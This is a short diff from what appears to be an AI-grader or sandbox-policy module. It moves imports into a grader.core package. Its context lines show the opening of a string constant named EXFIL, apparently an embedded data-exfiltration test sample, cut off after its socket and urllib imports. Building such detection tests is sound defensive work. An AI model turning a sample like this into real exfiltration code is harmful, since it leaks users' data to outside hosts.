@@ -5,9 +5,9 @@ from __future__ import annotations
 import secrets
 from typing import Any
 
-from grader.execution import Job, sightings
-from grader.plan import build_plan
-from grader.policy import load_policy
+from grader.core.execution import Job, sightings
+from grader.core.plan import build_plan
+from grader.core.policy import load_policy
 
 EXFIL = r'''
 import os, socket, urllib.request
